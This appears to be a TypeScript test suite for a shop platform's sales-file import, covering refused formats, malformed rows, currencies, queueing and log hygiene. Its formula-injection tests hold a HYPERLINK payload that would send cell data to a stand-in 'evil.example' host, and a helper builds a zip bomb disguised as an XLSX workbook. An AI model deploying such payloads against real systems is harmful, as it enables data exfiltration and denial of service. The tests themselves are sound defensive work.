// SPDX-License-Identifier: Apache-2.0
import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { errorTable } from '@resham/contract'
import { parse } from 'csv-parse/sync'
import { zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { pictureOf } from './books.ts'
import { expectWords } from './catalogues.ts'
import { aShop, importEnd, load, openWithWorker, type Shop, todayReady, upload } from './whole-platform.ts'

// Nobody but the owner may read this; it stands in the cells of every file below.
const secret = 'Qamar-Zaman-0300-1234567'
const header = 'Invoice,Date,Item,Quantity,Price,Customer'
const good = (n: number, quantity = '2') => `A${n},2026-03-0${(n % 9) + 1} 10:00,Kite ${n},${quantity},5.250,${secret}`
const csv = (...rows: string[]) => `${[header, ...rows].join('\n')}\n`
const goodRows = Array.from({ length: 12 }, (_, n) => good(n + 1))

let platform: Awaited<ReturnType<typeof openWithWorker>>
let shop: Shop

beforeAll(async () => {
  platform = await openWithWorker()
  shop = await aShop(platform.app)
})
afterAll(async () => {
  const log = [...platform.log, platform.worker.said()].join('\n')
  await platform.close()
  expect(log).not.toContain(secret)
  expect(log).not.toContain('Qamar')
})

/** Names of all files that the store holds. */
async function keptFiles(): Promise<string[]> {
  const entries = await readdir(join(platform.home, 'files'), { recursive: true, withFileTypes: true }).catch(() => [])
  return entries.filter((entry) => entry.isFile()).map((entry) => entry.name)
}

describe('a file that is refused at the door', () => {
  const wide = (row: (column: number) => string) => Array.from({ length: 10_000 }, (_, i) => row(i)).join(',')
  const refused: readonly [what: string, name: string, content: string | Uint8Array, code: keyof typeof errorTable][] =
    [
      ['a PDF renamed to CSV', 'sales.csv', `%PDF-1.7\n1 0 obj <</Title (${secret})>> endobj\n`, 'formats.pdf'],
      ['an empty file', 'sales.csv', '', 'formats.empty'],
      ['nothing but blank lines', 'sales.csv', '\n\n  \n', 'formats.empty'],
      ['a header and nothing else', 'sales.csv', `${header}\n`, 'formats.header-only'],
      ['10,000 columns', 'wide.csv', `${wide((i) => `c${i}`)}\n${wide(() => secret)}\n`, 'formats.too-many-columns'],
      ['a zip bomb dressed as XLSX', 'bomb.xlsx', zipBomb(), 'formats.zip-bomb'],
      ['a zip that is no workbook', 'photos.xlsx', zipSync({ 'a.txt': new Uint8Array(9) }), 'formats.zip-not-workbook'],
      ['half a gzip', 'cut.csv.gz', gzipSync(csv(...goodRows)).subarray(0, 40), 'formats.broken-gzip'],
      ['bytes that are no text', 'noise.csv', new Uint8Array(4000).map((_, i) => i % 7), 'formats.not-a-table'],
    ]
  test.each(refused)('%s ends in words of both languages, and the books stay', async (_what, name, content, code) => {
    const before = await pictureOf(platform.database, shop.businessId)
    const kept = await keptFiles()
    const { status, body } = await upload(shop, content, name)
    expect([status, body.code]).toEqual([errorTable[code].status, code])
    expectWords(`errors.${code}`)
    expect(await keptFiles()).toEqual(kept)
    expect(await pictureOf(platform.database, shop.businessId)).toEqual(before)
    expect(lastRefusal()).toMatchObject({ code })
  })
})

test('the file of an import that was stopped is not kept, unless another import has it too', async () => {
  const before = await keptFiles()
  const content = `${csv(...goodRows)}\n${secret} once`
  const { body: first } = await upload(shop, content)
  const { body: second } = await upload(shop, content)
  expect(await keptFiles()).toHaveLength(before.length + 1)
  await shop.post(`${shop.at}/imports/${first.id}/cancel`)
  expect(await keptFiles()).toHaveLength(before.length + 1)
  await shop.post(`${shop.at}/imports/${second.id}/cancel`)
  expect(await keptFiles()).toEqual(before)
})

describe('rows that cannot be read do not stop those that can', () => {
  const bad: readonly [what: string, rows: (string | Uint8Array)[], reasons: string[]][] = [
    [
      'a day that no calendar has',
      ['A90,2026-02-31 10:00,Kite,1,1.000,x', 'A91,2026-13-01,Kite,1,1.000,x'],
      ['date-not-real', 'date-not-real'],
    ],
    ['a currency that the pack does not know', ['A90,2026-03-01,Kite,1,QQQ 1.000,x'], ['currency-unknown']],
    [
      'an encoding that changes half-way',
      [Buffer.concat([Buffer.from('A90,2026-03-01,Ki'), Buffer.from([0xe9, 0x20]), Buffer.from('te,1,1.000,x')])],
      ['mixed-encoding'],
    ],
    ['a cell too few', ['A90'], ['too-few-columns']],
    [
      'an item name of 400 letters, of which the first 300 are kept',
      [`A90,2026-03-01,${'K'.repeat(400)},1,1.000,x`],
      [],
    ],
    ['an invoice number of 400 letters', [`${'K'.repeat(400)},2026-03-01,Kite,1,1.000,x`], ['cell-too-long']],
    ['a customer of 5,000 letters', [`A90,2026-03-01,Kite,1,1.000,${noise(5000)}`], ['cell-too-long']],
    ['words where a number should be', ['A90,2026-03-01,Kite,some,1.000,x'], ['number-unreadable']],
  ]
  test.each(bad)('%s', async (_what, rows, reasons) => {
    const own = await aShop(platform.app)
    const file = Buffer.concat([
      Buffer.from(csv(...goodRows, 'A13,2026-03-04 10:00,کاغذی پتنگ,1,2.000,احمد')),
      ...rows.flatMap((row) => [Buffer.from(row), Buffer.from('\n')]),
    ])
    const end = await load(own, file)
    const known = rows.length - reasons.length
    expect(end).toMatchObject({ state: 'done', result: { lines: 13 + known, bad: reasons.length } })
    const { body } = await own.get(`${own.at}/imports/${end.id}/problems`)
    expect(body.items.map((row: { reason: string }) => row.reason)).toEqual(reasons)
    for (const reason of reasons) expectWords(`ledger.bad.${reason}`)
    const { saleLines } = await pictureOf(platform.database, own.businessId)
    expect(saleLines.rows).toBe(13 + known)
  })

  test('a line of 30 MB is one bad row, and those around it are read', { timeout: 120_000 }, async () => {
    const own = await aShop(platform.app)
    const file = csv(...goodRows, `A50,2026-03-01,${secret.repeat(1_250_000)},1,1.000,x`, good(13))
    const end = await load(own, file)
    expect(end).toMatchObject({ state: 'done', result: { lines: 13, bad: 1 } })
    const { body } = await own.get(`${own.at}/imports/${end.id}/problems`)
    expect(body.items).toMatchObject([{ reason: 'record-too-long', lineNo: 14 }])
  })

  test('a byte that is no text far down in a file is one bad row', async () => {
    const own = await aShop(platform.app)
    const many = Array.from({ length: 6000 }, (_, n) => `B${n},2026-03-05 10:00,Reel ${n % 50},1,1.000,${secret}`)
    const end = await load(
      own,
      csv(...many, 'B9000,2026-03-05,Re\0el,1,1.000,x', 'B9001,2026-03-05,Reel 1,1,1.000,a\0b', good(1)),
    )
    expect(end).toMatchObject({ state: 'done', result: { lines: 6001, bad: 2 } })
  })

  test('a line in another currency is left out as it stands in the file, and goes in once it is mended', async () => {
    const own = await aShop(platform.app)
    const file = csv(...goodRows, 'A90,2026-03-04 10:00,Dollar kite,1,USD 1.000,x')
    const { body } = await upload(own, file)
    const preview = (await own.post(`${own.at}/imports/${body.id}/preview`, {})).body
    expect([preview.lines.length, preview.bad.length]).toEqual([12, 1])
    const end = await load(own, file)
    expect(end.result).toMatchObject({ lines: 12, bad: 1 })
    const problems = (await own.get(`${own.at}/imports/${end.id}/problems.csv`)).body
    const mended = await load(own, problems.replace('USD 1.000', '280.000'), { name: 'mended.csv' })
    expect(mended.result).toMatchObject({ lines: 1, added: 1, bad: 0, netSales: { minor: '280000' } })
  })

  test('quantities in Urdu digits are numbers', async () => {
    const own = await aShop(platform.app)
    const end = await load(own, csv(good(1, '۱۲'), good(2, '٣')))
    expect(end.result).toMatchObject({ lines: 2, bad: 0, netSales: { minor: String(15 * 5250) } })
  })

  test('customers whose names are written in two ways in one file are one customer each', async () => {
    const own = await aShop(platform.app)
    const rows = ['Amin & Sons', 'AMIN AND SONS', 'Amin & Sons'].map(
      (name, n) => `A${n},2026-03-01,Kite,1,1.000,C7,${name}`,
    )
    const end = await load(own, `Invoice,Date,Item,Quantity,Price,Customer,Customer name\n${rows.join('\n')}\n`)
    expect(end).toMatchObject({ state: 'done', result: { lines: 3, bad: 0 } })
    expect((await pictureOf(platform.database, own.businessId)).customers.rows).toBe(1)
  })

  test('a file without one good row ends with why, and leaves nothing', async () => {
    const own = await aShop(platform.app)
    const before = await pictureOf(platform.database, own.businessId)
    const end = await load(own, csv('A1,2026-02-21,Kite,1,QQQ 1.000,x', 'A2,2026-02-20,Kite,1,QQQ 1.000,x'))
    expect(end).toMatchObject({ state: 'failed', error: { code: 'imports.no-good-rows', details: { bad: 2 } } })
    expectWords('errors.imports.no-good-rows')
    expect(await pictureOf(platform.database, own.businessId)).toEqual(before)
  })
})

test('a currency that nobody knows is refused when the import is started, and the books keep theirs', async () => {
  const own = await aShop(platform.app)
  const { body } = await upload(own, csv(...goodRows))
  const { choice } = (await own.post(`${own.at}/imports/${body.id}/preview`, {})).body
  const answer = await own.post(`${own.at}/imports/${body.id}/start`, { choice: { ...choice, currency: 'QQQ' } })
  expect([answer.status, answer.body.code]).toEqual([422, 'business.currency-unknown'])
  expectWords('errors.business.currency-unknown')
  expect((await own.get(own.at)).body.currency).toBe('XTS')
  expect((await load(own, csv(...goodRows))).state).toBe('done')
})

describe('formulas in cells', () => {
  const formula = '=HYPERLINK("http://evil.example/?x="&A1)'
  const cell = `"${formula.replaceAll('"', '""')}"`

  test('come out of the problems file as text, and go in again as they were', async () => {
    const own = await aShop(platform.app)
    const end = await load(own, csv(...goodRows, `A90,2026-02-31,${cell},1,1.000,@SUM(A1)`))
    const file = await own.get(`${own.at}/imports/${end.id}/problems.csv`)
    expect(file.headers['content-disposition']).toContain('problems-sales.csv')
    expect(cellsThatRun(file.body)).toEqual([])
    expect(file.body).toContain(`'=HYPERLINK`)
    const mended = file.body.replace('2026-02-31', '2026-02-28')
    expect((await load(own, mended, { name: 'mended.csv' })).result).toMatchObject({ added: 1, bad: 0 })
    const [item] = await platform.database.asOwner<{ name: string }>(
      `select name from items where tenant_id = $1 and name like '%HYPERLINK%'`,
      [own.businessId],
    )
    expect(item?.name).toBe(formula)
  })

  test('come out of the plan as text', { timeout: 120_000 }, async () => {
    const own = await aShop(platform.app)
    const sold = Array.from({ length: 120 }, (_, n) => {
      const day = new Date(Date.UTC(2026, 0, 1 + n)).toISOString().slice(0, 10)
      return `A${n},${day},${cell},4,1.000,x`
    })
    await load(own, csv(...sold))
    await todayReady(own)
    const file = await own.get(`${own.at}/plan.csv`)
    expect(file.body).toContain('HYPERLINK')
    expect(cellsThatRun(file.body)).toEqual([])
  })
})

test('a second file handed in while the first is loaded waits for it, and both end well', async () => {
  const own = await aShop(platform.app)
  const many = (name: string) =>
    csv(...Array.from({ length: 9000 }, (_, n) => `${name}${n},2026-03-05 10:00,Reel ${n % 50},1,1.000,${secret}`))
  const started = []
  for (const name of ['first', 'second']) {
    const { body } = await upload(own, many(name), `${name}.csv`)
    expect((await own.post(`${own.at}/imports/${body.id}/start`, {})).status).toBe(202)
    started.push(body.id)
  }
  const ends = [await importEnd(own, started[0]), await importEnd(own, started[1])]
  for (const end of ends) expect(end).toMatchObject({ state: 'done', result: { lines: 9000, added: 9000, bad: 0 } })
  const [order] = await platform.database.asOwner<{ ordered: boolean }>(
    'select min(finished_at) < max(started_at) as ordered from imports where tenant_id = $1',
    [own.businessId],
  )
  expect(order?.ordered).toBe(true)
  expect((await pictureOf(platform.database, own.businessId)).saleLines.rows).toBe(18_000)
})

test('a sample shop, which anybody gets for the asking, takes 20 MB and no more', async () => {
  const own = await aShop(platform.app)
  await platform.database.asOwner('update businesses set sample = true where id = $1', [own.businessId])
  const kept = await keptFiles()
  const refused = await upload(own, Buffer.alloc(21 * 1024 ** 2, 'a,b\n'))
  expect([refused.status, refused.body.code]).toEqual([413, 'platform.too-large'])
  expect(await keptFiles()).toEqual(kept)
  expect((await upload(own, csv(...goodRows))).status).toBe(201)
})

/** Cells that a spreadsheet would run: they begin with one of its signs and are no number. */
function cellsThatRun(text: string): string[] {
  const rows = parse(text, { bom: true }) as string[][]
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)))
}

function lastRefusal(): object {
  const lines = platform.log.map((line) => JSON.parse(line)).filter((line) => line.msg === 'refused')
  return lines.at(-1)
}

/** Letters without a pattern, the same each time. */
function noise(length: number): string {
  let state = 7
  return Array.from({ length }, () => {
    state = (state * 48_271) % 2_147_483_647
    return String.fromCharCode(97 + (state % 26))
  }).join('')
}

/** A workbook of some hundred kilobytes whose only sheet says that it is 600 MB of blanks. */
function zipBomb(): Uint8Array {
  const text = (content: string) => new TextEncoder().encode(content)
  const relation = (id: string, type: string, target: string) =>
    `<Relationships><Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/></Relationships>`
  const blanks = new Uint8Array(200 * 1024 ** 2).fill(32)
  blanks.set(text('<worksheet><sheetData><row r="1">'))
  return zipSync({
    '_rels/.rels': text(relation('rId1', 'officeDocument', 'xl/workbook.xml')),
    'xl/workbook.xml': text(
      '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': text(relation('rId1', 'worksheet', 'worksheets/sheet1.xml')),
    'xl/worksheets/sheet1.xml': blanks,
  })
}
